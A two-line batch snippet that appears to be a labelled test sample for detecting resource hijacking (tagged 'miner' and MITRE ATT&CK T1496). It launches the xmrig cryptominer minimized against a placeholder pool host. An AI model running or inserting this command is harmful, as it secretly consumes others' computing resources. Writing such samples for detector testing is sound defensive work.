@rem expect: miner | source: MITRE ATT&CK T1496
start /min xmrig.exe -o stratum+tcp://pool.example.invalid:3333 -u x
